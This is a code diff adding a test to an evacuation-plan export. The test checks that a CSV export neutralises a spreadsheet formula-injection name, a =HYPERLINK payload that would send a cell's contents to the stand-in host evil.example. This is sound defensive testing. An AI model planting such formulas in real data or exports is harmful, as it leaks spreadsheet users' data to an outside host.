@@ -115,6 +115,11 @@ def the_plan_comes_as_geojson_csv_and_a_printable_page():
     expect_equal(lines[0], "group,departure,assembly_lat,assembly_lon,shelter_id,shelter,national_id,name", "header")
     expect_equal(len(lines) - 1, 6, "one line per person")
     check(any('"KIM A"' in line for line in lines), csv.body)
+    # A name a spreadsheet would run as a formula is written as text.
+    cluster.psql(DB, "UPDATE national SET name_latin = '=HYPERLINK(\"http://evil.example/\"&A1)' WHERE name_latin = 'KIM A'")
+    cells = lead.get("/api/v1/plans/%d?format=csv" % pid).body
+    cluster.psql(DB, "UPDATE national SET name_latin = 'KIM A' WHERE name_latin LIKE '=HYPERLINK%'")
+    check(',"\'=HYPERLINK(""http://evil.example/""&A1)"' in cells and ',"=' not in cells, cells)
     html = lead.get("/api/v1/plans/%d?format=html" % pid)
     check(html.header("Content-Type").startswith("text/html") and "Group 1 - departure" in html.body and
           "LEE D" in html.body, html.body[:500])
